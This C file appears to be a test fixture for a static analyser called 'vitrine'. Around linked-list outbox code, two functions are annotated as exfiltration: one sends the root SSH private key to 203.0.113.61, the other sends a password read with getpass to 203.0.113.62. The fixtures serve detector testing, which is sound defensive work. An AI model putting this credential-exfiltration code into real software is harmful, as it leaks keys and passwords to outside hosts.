// Lists that know where their last element ends, worked off in a loop.
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/queue.h>
#include <sys/socket.h>
#include <unistd.h>

struct chunk {
    struct chunk *next;
    size_t size, done;
    unsigned char bytes[];
};

struct outbox {
    struct chunk *first, **last;
    int fd;
};

static void add(struct outbox *box, const void *bytes, size_t size) {
    struct chunk *chunk = malloc(sizeof *chunk + size);
    chunk->next = NULL;
    chunk->size = size;
    chunk->done = 0;
    memcpy(chunk->bytes, bytes, size);
    *box->last = chunk;
    box->last = &chunk->next;
}

static int drain(struct outbox *box) {
    struct chunk *chunk = box->first;
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    ssize_t n = send(box->fd, chunk->bytes + chunk->done, chunk->size - chunk->done, 0);
    if (n < 0)
        return -1;
    chunk->done += (size_t)n;
    if (chunk->done == chunk->size) {
        box->first = chunk->next;
        if (!box->first)
            box->last = &box->first;
        free(chunk);
    }
    return 0;
}

static void add_file(struct outbox *box, const char *path) {
    char bytes[512];
    ssize_t n;
    int fd = open(path, O_RDONLY);
    while (fd >= 0 && (n = read(fd, bytes, sizeof bytes)) > 0)
        add(box, bytes, (size_t)n);
    close(fd);
}

static int dial(const char *address) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(9100)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, address, &peer.sin_addr);
    return connect(fd, (struct sockaddr *)&peer, sizeof peer) ? -1 : fd;
}

int bad_send(void) {
    struct outbox box = {.fd = dial("203.0.113.61")};
    box.last = &box.first;
    add_file(&box, "/root/.ssh/id_ecdsa");
    while (box.first)
        if (drain(&box))
            return 1;
    return 0;
}

struct letter {
    STAILQ_ENTRY(letter) link;
    char text[120];
};
STAILQ_HEAD(letters, letter);

static void post(struct letters *letters, const char *text) {
    struct letter *letter = calloc(1, sizeof *letter);
    strncpy(letter->text, text, sizeof letter->text - 1);
    STAILQ_INSERT_TAIL(letters, letter, link);
}

static void deliver(struct letters *letters, int fd) {
    struct letter *letter;
    while ((letter = STAILQ_FIRST(letters))) {
        STAILQ_REMOVE_HEAD(letters, link);
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        send(fd, letter->text, sizeof letter->text, 0);
        free(letter);
    }
}

void bad_log_in(void) {
    struct letters letters = STAILQ_HEAD_INITIALIZER(letters);
    post(&letters, getpass("Password: "));
    deliver(&letters, dial("203.0.113.62"));
}
